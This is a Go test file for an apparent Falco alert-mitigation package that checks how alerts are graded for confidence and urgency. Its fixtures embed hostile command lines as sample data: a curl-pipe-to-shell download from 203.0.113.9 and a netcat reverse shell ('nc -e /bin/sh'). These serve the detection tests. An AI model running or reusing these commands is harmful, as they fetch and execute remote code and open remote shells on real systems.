package mitigate

import (
	"os"
	"strings"
	"testing"

	"github.com/falconer-go/falconer/event"
)

// sample returns the alert that the report example has built in.
func sample(t testing.TB) *event.Event {
	data, err := os.ReadFile("../examples/report/testdata/alert.json")
	if err != nil {
		t.Fatal(err)
	}
	e, err := event.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestPlanOfSample(t *testing.T) {
	p := For(sample(t))
	if p.Level != ByRule {
		t.Errorf("Level = %v, want rule", p.Level)
	}
	if p.Verdict.Urgency != Note {
		t.Errorf("Urgency = %v, want note: it is a test run", p.Verdict.Urgency)
	}
	if len(p.Benign) == 0 || !p.Benign[0].Fits || p.Benign[0].Strength != High {
		t.Fatalf("the event-generator is not the first benign case: %+v", p.Benign)
	}
	for _, phase := range []Phase{Now, Next, Later} {
		n := 0
		for _, s := range p.Steps {
			if s.Phase == phase {
				n++
				if len(s.Why) == 0 || len(s.Controls) == 0 {
					t.Errorf("%v: step without reason or control: %v", phase, s.Do)
				}
			}
		}
		if n == 0 {
			t.Errorf("no step for %v", phase)
		}
	}
	if len(p.Config) != 1 || !strings.Contains(p.Config[0].Body, "fields: [proc.exepath, proc.cmdline, fd.name]") {
		t.Errorf("Config = %+v", p.Config)
	}
}

// TestConfidence: what an alert holds may make the suspicion a strong one.
func TestConfidence(t *testing.T) {
	for fields, want := range map[string]Confidence{
		`{"proc.pname": "java", "proc.cmdline": "sh -c curl http://203.0.113.9/x | sh"}`: High,
		`{"proc.pname": "java", "proc.cmdline": "sh -c ulimit -n"}`:                      Medium,
		`{}`: Medium,
	} {
		e, err := event.Parse([]byte(`{"rule": "Run shell untrusted", "source": "syscall", "priority": "Notice",
			"time": "2026-01-02T03:04:05Z", "output": "a shell", "output_fields": ` + fields + `}`))
		if err != nil {
			t.Fatal(err)
		}
		if p := For(e); p.Verdict.Confidence != want {
			t.Errorf("%s: confidence %v, want %v", fields, p.Verdict.Confidence, want)
		}
	}
}

// TestDoubt: a name that fits a benign case is no strong sign where the program
// lies in an intruder's place.
func TestDoubt(t *testing.T) {
	for exe, want := range map[string]Confidence{"/usr/sbin/logrotate": High, "/tmp/logrotate": Medium} {
		e, err := event.Parse([]byte(`{"rule": "Clear Log Activities", "source": "syscall", "priority": "Warning",
			"time": "2026-01-02T03:04:05Z", "output": "a log", "output_fields": {"proc.name": "logrotate",
			"proc.exepath": "` + exe + `", "container.id": "host", "fd.name": "/var/log/syslog"}}`))
		if err != nil {
			t.Fatal(err)
		}
		p := For(e)
		if len(p.Benign) == 0 || !p.Benign[0].Fits || p.Benign[0].Strength != want {
			t.Errorf("%s: %+v, want a case of strength %v", exe, p.Benign, want)
		}
	}
}

// TestUrgencyOfTheSure: where hardly anything harmless looks like an alert, the
// priority of its rule does not make it wait, unless something else lowers it.
func TestUrgencyOfTheSure(t *testing.T) {
	for _, c := range []struct {
		rule, fields string
		want         Urgency
	}{
		{"Known Cryptominer Process Executed", `{"proc.name": "xmrig", "container.id": "3ad7b26ded6d"}`, Today},
		{"Netcat Remote Code Execution in Container", `{"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444", "container.id": "3ad7b26ded6d"}`, Soon},
		{"Terminal shell in container", `{"proc.name": "bash", "proc.pname": "runc", "container.id": "3ad7b26ded6d"}`, Routine},
	} {
		e, err := event.Parse([]byte(`{"rule": "` + c.rule + `", "source": "syscall", "priority": "Notice",
			"time": "2026-01-02T03:04:05Z", "output": "an alert", "output_fields": ` + c.fields + `}`))
		if err != nil {
			t.Fatal(err)
		}
		if v := For(e).Verdict; v.Urgency < c.want || c.want == Routine && v.Urgency > Routine {
			t.Errorf("%s: urgency %v (%s), want %v or more", c.rule, v.Urgency, v.Because, c.want)
		}
	}
}

// TestInternalWithoutSource holds that what Falco says of itself is known as such
// where the alert names no source, as in old versions.
func TestInternalWithoutSource(t *testing.T) {
	e := &event.Event{Rule: "Falco internal: syscall event drop"}
	if p := For(e); p.Level != ByInternal || p.Event != e {
		t.Errorf("level %v of %v", p.Level, p.Event)
	}
	if p := For(&event.Event{Rule: e.Rule, Source: "syscall"}); p.Level == ByInternal {
		t.Error("a rule of system calls is taken for Falco's own event")
	}
}
